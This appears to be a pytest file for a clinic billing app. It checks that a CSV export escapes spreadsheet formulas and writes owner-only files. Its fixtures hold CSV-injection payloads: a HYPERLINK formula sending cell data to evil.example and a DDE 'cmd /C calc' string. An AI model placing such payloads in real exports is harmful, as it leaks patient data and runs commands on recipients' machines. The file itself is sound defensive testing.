"""The billing CSV from `report billing --csv`: a name or MRN typed as a formula reaches the billing
office's spreadsheet as text, and both files are owner-only whatever the umask."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

from sqlalchemy import update

from cocm_desktop import cli
from cocm_desktop.services.time_log import add_manual_time
from cocm_desktop.store.models import Patient

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&C2&D2,"Open chart")'


def hostile_patient(clinic, actors, build) -> int:  # type: ignore[no-untyped-def]
    """A patient whose family name and MRN are formulas, with 40 minutes logged in October 2026."""
    pid = build.patient(family=HOSTILE_NAME, given="Ann")
    build.episode(pid, enrolled_on=date(2026, 10, 1), consent_on=date(2026, 10, 1))
    with clinic.session() as s:
        s.execute(update(Patient).where(Patient.id == pid).values(mrn="=1+1"))
        add_manual_time(s, actors["cm1"], patient_id=pid, activity="follow_up_contact",
                        local_date=date(2026, 10, 6), minutes=40, note="-2+3+cmd|' /C calc'!A0",
                        now=datetime(2026, 11, 24, 17, 0))
    return pid


def test_billing_csv_neutralises_formulas_and_is_owner_only(
    clinic, clinic_path, actors, build, tmp_path, monkeypatch, capsys, permissive_umask  # type: ignore[no-untyped-def]
) -> None:
    hostile_patient(clinic, actors, build)
    pdf_path, csv_path = tmp_path / "oct.pdf", tmp_path / "oct.csv"
    csv_path.write_text("last month's export")
    csv_path.chmod(0o644)
    monkeypatch.setenv("COCM_PASSWORD", "demo")
    rc = cli.main(["report", "billing", "--db", str(clinic_path), "--user", "lead", "--month", "2026-10",
                   "--out", str(pdf_path), "--csv", str(csv_path)])
    assert rc == 0, capsys.readouterr().err
    (row,) = list(csv.DictReader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"), newline="")))
    assert row["patient"] == f"'{HOSTILE_NAME}, Ann" and row["mrn"] == "'=1+1"
    assert row["counted_minutes"] == "40" and row["codes"] == "99492 x1"  # ordinary cells untouched
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert csv_path.stat().st_mode & 0o777 == 0o600 and pdf_path.stat().st_mode & 0o777 == 0o600
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temp copies
